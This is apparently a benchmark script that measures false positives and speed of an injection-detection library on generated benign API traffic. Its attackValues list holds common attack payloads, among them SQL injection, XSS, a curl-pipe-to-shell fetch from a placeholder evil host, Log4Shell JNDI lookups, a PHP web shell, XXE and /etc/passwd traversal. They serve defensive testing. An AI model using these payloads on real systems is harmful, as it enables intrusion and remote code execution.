#!/usr/bin/env node
// False positives of @rampart/injection on generated NORMAL API traffic, and its speed per value.
//
//   npx tsc -b packages/injection && node bench/injection-fp.mjs [--requests 4000] [--paranoia 1] [--seed 7] [--show 20] [--rounds 7]
//
// The generator builds realistic requests for a few kinds of API (shop, CRM, support desk, content/markdown, a
// developer-tools API that carries code snippets, file uploads) with real-looking values: names with apostrophes,
// addresses, free text with punctuation, search queries with quotes and English "and/or/select", ISO dates, emails,
// URLs to public hosts, UUIDs, base64 image snippets, JWTs, browser user agents, Accept headers, cookies.
// It was written from what such traffic looks like, not from the detectors' rules.
import { createInjectionInspector } from '../packages/injection/dist/index.js';

const args = process.argv.slice(2);
const flag = (name, fallback) => {
  const i = args.indexOf(`--${name}`);
  return i >= 0 ? args[i + 1] : fallback;
};
const REQUESTS = Number(flag('requests', '4000'));
const paranoia = Number(flag('paranoia', '1'));
let seed = Number(flag('seed', '7'));
const SHOW = Number(flag('show', '15'));

function rand() {
  // mulberry32
  seed |= 0;
  seed = (seed + 0x6d2b79f5) | 0;
  let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
const pick = (xs) => xs[Math.floor(rand() * xs.length)];
const int = (a, b) => a + Math.floor(rand() * (b - a + 1));
const hex = (n) => Array.from({ length: n }, () => '0123456789abcdef'[int(0, 15)]).join('');
const b64 = (n) => Buffer.from(Array.from({ length: n }, () => int(0, 255))).toString('base64');
const b64url = (s) => Buffer.from(s).toString('base64url');

const FIRST = [
  'Liam',
  'Olivia',
  'Noah',
  'Emma',
  'Zoë',
  'José',
  'Chloé',
  'Mohammed',
  'Aoife',
  'Siobhán',
  'Seán',
  'Anne-Marie',
  'Jean-Luc',
  'Björn',
  'Ngozi',
  'Wei',
  'Priya',
  "D'Arcy",
  'Mary Ann',
  'Ole',
];
const LAST = [
  "O'Brien",
  "O'Connor",
  "D'Angelo",
  'McDonald',
  'Smith',
  'García Márquez',
  'van der Berg',
  "L'Estrange",
  'Nguyen',
  'Müller',
  'Øvergård',
  'Kowalski',
  "N'Diaye",
  'Smith-Jones',
  'De la Cruz',
  'Al-Sayed',
  'Ó Súilleabháin',
];
const STREETS = [
  'Main St',
  "King's Road",
  "Rue de l'Église",
  'Baker Street',
  'Elm Ave.',
  'Calle 8 #12-34',
  '1st Ave, Apt #4B',
  'P.O. Box 1234',
  'Unit 5/22 George St',
  'Hauptstraße 5',
];
const CITIES = [
  'Dublin',
  'New York, NY',
  "Saint-Jean-d'Angély",
  'São Paulo',
  'München',
  'Washington, D.C.',
  "Coeur d'Alene, ID",
  'Winston-Salem',
];
const HOSTS = [
  'example.com',
  'github.com',
  'www.wikipedia.org',
  'cdn.shopify.com',
  'images.unsplash.com',
  'docs.python.org',
  'news.ycombinator.com',
  'api.stripe.com',
  's3.amazonaws.com',
  'www.youtube.com',
];
const WORDS =
  'the a an and or not select drop update delete insert create table union join from where order by group having like in is null true false set exec script alert document window cat ls find more less head tail echo sort type date time which who kill make run test file path system shell eval import include require union station plan option price total order shipping return refund account password email phone address note comment review great terrible fast slow love hate please thanks maybe really very small large medium red blue green black white'.split(
    ' ',
  );
const SENTENCES = [
  "I'd like to return the item, it's too small.",
  'Please select a plan that fits your team; you can upgrade or downgrade anytime.',
  "Drop me a line if the order doesn't arrive by Friday!",
  'Great product -- works as described. 5/5 would buy again :)',
  'The box said "fragile" but it was thrown at my door... not happy.',
  "Where is my order #12345? It says delivered but I can't find it.",
  'Can you update my address? The old one (on Elm St.) is wrong.',
  'a < b and c > d holds in this case, see the proof in section 3.',
  'Select the items you want, then click "Add to cart" & checkout.',
  'Ship to: 221B Baker Street; London; NW1 6XE',
  'Price was $19.99 + tax = $21.59, but I was charged $25?!',
  "Tom & Jerry's Cheese Shop -- open 9am-5pm (Mon-Fri)",
  'Insert the SIM card, then select "Settings > Network" and turn on roaming.',
  'It works on Windows 10; on macOS it crashes when I click "Export" twice.',
  '50% off everything -- use code SAVE50 at checkout (today only!)',
  "Who's responsible for the delay? I've been waiting 3 weeks.",
  'Union Station, Washington D.C. -- meet at 10:30 by the north entrance.',
  'I love this! <3 My kids use it every day.',
  "Q&A: what's the difference between the Pro and the Max? Is it worth $200 more?",
  'The drop-down menu shows "null" instead of my name.',
  'Rock & roll; blues; jazz -- all genres welcome.',
  'Set the temperature to 180°C / 350°F and bake for 25-30 minutes.',
  'Order by phone: +1 (555) 010-9999, or email orders@example.com.',
  'He said: "it\'s fine" -- it wasn\'t.',
  'Files are in C:\\Users\\Public\\Documents\\Invoices (scanned).',
  'Use the | character to separate values, e.g. red|green|blue.',
  'Step 1: open the app. Step 2: tap "Sync". Step 3: wait ~2 min.',
  'Temperature: 22°C; humidity: 40%; wind: 5 km/h NW',
  'We met at 5 p.m. -- or was it 6? Either way, thanks!',
  'Is it safe to delete old backups from the cloud? (I have 3 copies.)',
];
const MARKDOWN = [
  '# Release notes\n\n- Fixed login bug\n- Added **dark mode**\n\nSee [docs](https://docs.example.com/guide) for details.',
  '## Install\n\n```bash\nnpm install --save my-lib\n```\n\nThen `import { x } from "my-lib"`.',
  '> Note: the API returns `null` when the user has no orders.\n\n1. Call `GET /orders`\n2. Check `items.length`',
  'Hello *world*! Here is an image: ![logo](https://cdn.example.com/logo.png "Logo")',
  '| Plan | Price |\n|------|-------|\n| Free | $0 |\n| Pro | $10/mo |',
  'Use `{{name}}` in the template to insert the customer name, and `{{order.total}}` for the total.',
  'Press <kbd>Ctrl</kbd>+<kbd>C</kbd> to copy. <b>Bold</b> and <i>italic</i> work too.',
];
const CODE = [
  'const total = items.reduce((sum, i) => sum + i.price, 0);',
  'if (user && user.isAdmin) { return next(); }',
  'def handler(event, context):\n    return {"statusCode": 200}',
  'for (let i = 0; i < n; i++) { sum += a[i]; }',
  "SELECT id, name FROM customers WHERE country = 'IE' ORDER BY name;",
  'git commit -m "fix: handle empty cart"',
  'docker run -p 8080:80 nginx:latest',
  'npm install --save-dev typescript',
  'curl -X POST https://api.example.com/v1/items -H "Content-Type: application/json"',
  'x = [i * 2 for i in range(10) if i % 2 == 0]',
  'public static void main(String[] args) { System.out.println("hi"); }',
  'let re = /^[a-z0-9_-]{3,16}$/;',
  'ls -la ~/projects && cd my-app',
  'kubectl get pods -n production',
  'const url = `${base}/users/${id}`;',
  'echo "hello world" | wc -c',
  'function add(a, b) { return a + b; }',
  'print(f"Hello, {name}!")',
  '<div class="card">{{ title }}</div>',
  'user?.profile?.email ?? "unknown"',
];
const SEARCHES = [
  '"red shoes" size 9',
  "men's jacket",
  "kids' toys under $20",
  'usb-c cable 2m',
  'select comfort mattress',
  'union jack flag',
  'drop leaf table',
  'rock and roll cd',
  'and or not logic gates book',
  'black & decker drill',
  "levi's 501",
  'iphone 15 case',
  'tables and chairs',
  'who framed roger rabbit',
  'the "best" coffee grinder',
  'script writing course',
  'cat food 5kg',
  'echo dot',
  'head & shoulders',
  'time & date watch',
  'find my phone',
  '100% cotton t-shirt',
  'C++ primer 5th ed.',
  'C# in depth',
  'node.js design patterns',
  'A/B testing',
  'Q&A',
  '3/4" plywood',
  'set of 4 mugs',
  "O'Reilly books",
];
const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67',
  'okhttp/4.12.0',
  'python-requests/2.31.0',
  'curl/8.5.0',
  'PostmanRuntime/7.37.3',
  'Go-http-client/1.1',
  'axios/1.6.8',
];
const ACCEPTS = [
  'application/json',
  'application/json, text/plain, */*',
  'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  '*/*',
];
const LANGS = [
  'en-US,en;q=0.9',
  'fr-FR,fr;q=0.9,en;q=0.8',
  'de-DE,de;q=0.9',
  'pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7',
];

const uuid = () => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const isoDate = () =>
  new Date(
    Date.UTC(2020 + int(0, 5), int(0, 11), int(1, 28), int(0, 23), int(0, 59), int(0, 59)),
  ).toISOString();
const email = () =>
  `${pick(FIRST)
    .toLowerCase()
    .replace(/[^a-z]/g, '')}.${pick(LAST)
    .toLowerCase()
    .replace(
      /[^a-z]/g,
      '',
    )}${int(0, 99)}@${pick(['gmail.com', 'example.org', 'company.co.uk', 'mail.example.com'])}`;
const url = () =>
  `https://${pick(HOSTS)}/${pick(['', 'a/b', 'products/123', 'search?q=shoes&page=2', 'img/photo.jpg', 'wiki/Main_Page', 'docs/3/library/os.html#os.path'])}`;
const jwt = () =>
  `${b64url(JSON.stringify({ alg: 'RS256', typ: 'JWT', kid: hex(8) }))}.${b64url(JSON.stringify({ sub: uuid(), name: `${pick(FIRST)} ${pick(LAST)}`, iat: 1700000000 + int(0, 9999999), scope: 'read:orders write:cart', email: email() }))}.${Buffer.from(hex(64), 'hex').toString('base64url')}`;
const freeText = () =>
  rand() < 0.6
    ? pick(SENTENCES)
    : Array.from({ length: int(3, 16) }, () => pick(WORDS)).join(' ') + pick(['.', '!', '?', '', '...']);
const name = () => `${pick(FIRST)} ${pick(LAST)}`;
const filename = () =>
  pick([
    'report Q3 (final).pdf',
    'C:\\Users\\bob\\Documents\\invoice #12.pdf',
    'IMG_2024-05-01 12.30.45.jpg',
    "John's CV.docx",
    'data_export (2).csv',
    'my file [draft].txt',
    'thumbnails/cover (1).png',
    'résumé.pdf',
  ]);

function generators() {
  return [
    // shop: search
    () => ({
      path: `/api/products?q=${encodeURIComponent(pick(SEARCHES))}&page=${int(1, 20)}&sort=${pick(['price', '-price', 'rating', 'newest'])}`,
    }),
    // shop: order
    () => ({
      path: `/api/orders`,
      body: {
        customer: {
          name: name(),
          email: email(),
          phone: `+1 (${int(200, 999)}) ${int(200, 999)}-${int(1000, 9999)}`,
        },
        shipping: {
          street: `${int(1, 999)} ${pick(STREETS)}`,
          city: pick(CITIES),
          zip: String(int(10000, 99999)),
        },
        items: Array.from({ length: int(1, 4) }, () => ({
          sku: `SKU-${hex(6).toUpperCase()}`,
          qty: int(1, 5),
          note: rand() < 0.3 ? freeText() : '',
        })),
        coupon: rand() < 0.2 ? pick(['SAVE10', 'WELCOME-2024', 'FREESHIP']) : null,
        placedAt: isoDate(),
      },
    }),
    // reviews / support
    () => ({
      path: `/api/products/${int(1, 99999)}/reviews`,
      body: {
        rating: int(1, 5),
        title: freeText().slice(0, 60),
        body: `${freeText()} ${freeText()}`,
        author: name(),
      },
    }),
    () => ({
      path: `/api/tickets/${uuid()}/comments`,
      body: {
        text: `${freeText()}\n\n${freeText()}`,
        attachments:
          rand() < 0.3 ? [{ name: filename(), data: `data:image/png;base64,${b64(int(30, 90))}` }] : [],
      },
    }),
    // CRM
    () => ({
      path: `/api/contacts?email=${encodeURIComponent(email())}&updatedSince=${encodeURIComponent(isoDate())}`,
    }),
    () => ({
      path: `/api/contacts/${uuid()}`,
      body: {
        firstName: pick(FIRST),
        lastName: pick(LAST),
        company: pick([
          "Ben & Jerry's",
          'AT&T',
          'Procter & Gamble',
          "McDonald's",
          'Société Générale',
          'Yahoo!',
          'Toys"R"Us',
          'H&M',
        ]),
        website: url(),
        notes: freeText(),
        tags: [pick(WORDS), pick(WORDS)],
      },
    }),
    // content / markdown
    () => ({
      path: `/api/pages/${pick(['about', 'faq', 'release-notes', 'getting-started'])}`,
      body: {
        title: freeText().slice(0, 50),
        markdown: pick(MARKDOWN),
        publishedAt: isoDate(),
        slug: `my-page-${int(1, 999)}`,
      },
    }),
    // dev tools API
    () => ({
      path: `/api/snippets`,
      body: {
        language: pick(['javascript', 'python', 'sql', 'bash', 'java', 'typescript']),
        code: pick(CODE),
        description: freeText(),
        public: rand() < 0.5,
      },
    }),
    // uploads
    () => ({
      path: `/api/files`,
      body: {
        filename: filename(),
        contentType: pick(['image/png', 'application/pdf', 'text/csv']),
        size: int(100, 9999999),
        checksum: hex(64),
        data: b64(int(40, 120)),
      },
    }),
    // analytics / tracking
    () => ({
      path: `/api/events?ref=${encodeURIComponent(url())}&utm_source=${pick(['newsletter', 'google', 'twitter'])}&utm_campaign=${pick(['spring_sale', 'black-friday-2024', 'launch'])}&ts=${Date.now() - int(0, 1e9)}`,
    }),
    // GraphQL
    () => ({
      path: '/graphql',
      body: {
        query:
          'query Orders($first: Int!, $after: String) { orders(first: $first, after: $after) { edges { node { id total createdAt } } } }',
        variables: { first: int(5, 50), after: rand() < 0.5 ? b64url(`cursor:${int(1, 9999)}`) : null },
        operationName: 'Orders',
      },
    }),
    // settings / misc
    () => ({
      path: `/api/users/${int(1, 1e6)}/preferences`,
      body: {
        theme: pick(['dark', 'light']),
        timezone: pick(['Europe/Dublin', 'America/New_York', 'Asia/Kolkata']),
        locale: pick(['en-US', 'fr-FR']),
        callbackUrl: url(),
        redirect_uri: url(),
      },
    }),
  ];
}

function headers() {
  const h = {
    'user-agent': pick(UAS),
    accept: pick(ACCEPTS),
    'accept-language': pick(LANGS),
    'accept-encoding': 'gzip, deflate, br',
    authorization: `Bearer ${jwt()}`,
    cookie: `session=${b64url(hex(24))}; _ga=GA1.2.${int(1e8, 1e9)}.${int(1e9, 2e9)}; theme=${pick(['dark', 'light'])}; consent=${encodeURIComponent('{"ads":false,"analytics":true}')}`,
    'x-request-id': uuid(),
  };
  if (rand() < 0.5) h.referer = url();
  if (rand() < 0.3) h['if-none-match'] = `W/"${hex(16)}"`;
  return h;
}

const gens = generators();
const requests = Array.from({ length: REQUESTS }, () => ({ ...pick(gens)(), headers: headers() }));

function countValues(input) {
  let n = 0;
  const walk = (v) => {
    if (typeof v === 'string') n++;
    else if (Array.isArray(v)) v.forEach(walk);
    else if (v && typeof v === 'object')
      for (const x of Object.values(v)) {
        n++;
        walk(x);
      }
  };
  const q = input.path.indexOf('?');
  n += 1 + (q < 0 ? 0 : input.path.slice(q + 1).split('&').length * 2);
  for (const [k, v] of Object.entries(input.headers)) n += k === 'cookie' ? v.split(';').length : 1;
  walk(input.body);
  return n;
}

const inspector = createInjectionInspector({ paranoia });
let values = 0;
for (const r of requests) values += countValues(r);
const byClass = {};
const examples = [];
let requestsWithHit = 0;
let hitCount = 0;
for (const r of requests) {
  const hits = inspector.inspect(r);
  if (hits.length > 0) requestsWithHit++;
  for (const h of hits) {
    hitCount++;
    byClass[h.class] = (byClass[h.class] ?? 0) + 1;
    if (examples.length < SHOW)
      examples.push(`${h.class} ${h.ruleId} ${h.score} ${h.location}: ${JSON.stringify(h.evidence)}`);
  }
}
console.log(`Normal traffic: ${REQUESTS} requests, ${values} values inspected, paranoia ${paranoia}`);
console.log(
  `False positives: ${hitCount} hits on ${values} values = ${((100 * hitCount) / values).toFixed(3)}% of values; ${requestsWithHit} requests (${((100 * requestsWithHit) / REQUESTS).toFixed(2)}%)`,
);
for (const [cls, n] of Object.entries(byClass).sort((a, b) => b[1] - a[1]))
  console.log(`  ${cls.padEnd(16)} ${String(n).padStart(5)}  ${((100 * n) / values).toFixed(3)}% of values`);
if (examples.length > 0) console.log(`examples:\n  ${examples.join('\n  ')}`);

// Speed: ns per value for typical benign values and for attack values, after warm-up.
const benignValues = [];
for (const r of requests.slice(0, 400)) {
  const walk = (v) => {
    if (typeof v === 'string') benignValues.push(v);
    else if (Array.isArray(v)) v.forEach(walk);
    else if (v && typeof v === 'object') Object.values(v).forEach(walk);
  };
  walk(r.body);
  for (const v of Object.values(r.headers)) benignValues.push(v);
}
const attackValues = [
  "1' OR '1'='1' --",
  '1 UNION SELECT username, password FROM users--',
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '; cat /etc/passwd',
  '$(curl http://evil.example/x.sh | sh)',
  '../../../../etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'http://169.254.169.254/latest/meta-data/',
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  '${${lower:j}ndi:${lower:l}dap://evil.example/a}',
  '{"$ne": null}',
  'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ',
  'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
  '<?php system($_GET["c"]); ?>',
  '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '*)(uid=*))(|(uid=*',
  'foo%0d%0aSet-Cookie:%20admin=1',
];
// Each figure is the median of ROUNDS rounds; wall-clock and CPU time (process.cpuUsage) are both reported because
// on a shared machine the CPU time of this process is the steadier of the two.
const ROUNDS = Number(flag('rounds', '7'));
function median(xs) {
  const sorted = [...xs].sort((a, b) => a - b);
  return sorted[sorted.length >> 1];
}
function measure(list, reps, run) {
  for (let i = 0; i < 3; i++) for (const v of list) run(v);
  const wall = [];
  const cpu = [];
  for (let r = 0; r < ROUNDS; r++) {
    const c0 = process.cpuUsage();
    const t0 = process.hrtime.bigint();
    for (let i = 0; i < reps; i++) for (const v of list) run(v);
    const dt = Number(process.hrtime.bigint() - t0);
    const c = process.cpuUsage(c0);
    wall.push(dt / (reps * list.length));
    cpu.push(((c.user + c.system) * 1000) / (reps * list.length));
  }
  return { wall: median(wall), cpu: median(cpu) };
}
const value = (v) => inspector.inspectValue(v, 'query.q');
const plain = benignValues.filter((v) => /^[A-Za-z0-9 _.,-]*$/.test(v));
const short = benignValues.filter((v) => v.length < 64);
const long = benignValues.filter((v) => v.length >= 64);
const row = (label, list, reps) => {
  const m = measure(list, reps, value);
  console.log(
    `  ${label.padEnd(38)} ${String(list.length).padStart(5)} values  ${m.wall.toFixed(0).padStart(7)} ns/value wall  ${m.cpu.toFixed(0).padStart(7)} ns/value cpu`,
  );
  return m;
};
console.log(`\nSpeed (one core, after warm-up, median of ${ROUNDS} rounds):`);
row('benign plain alphanumeric values', plain, 50);
row('benign short values (< 64 chars)', short, 20);
row('benign long values (>= 64 chars)', long, 10);
row('benign values, all (mixed)', benignValues, 10);
row('attack values', attackValues, 200);
const req = measure(requests, 1, (r) => inspector.inspect(r));
console.log(
  `  whole requests (${requests.length}, ~${(values / requests.length).toFixed(1)} values each): ${(req.wall / 1000).toFixed(1)} µs/request wall, ${(req.cpu / 1000).toFixed(1)} µs/request cpu (${Math.round(1e9 / req.cpu).toLocaleString('en-US')} requests/s per core)`,
);
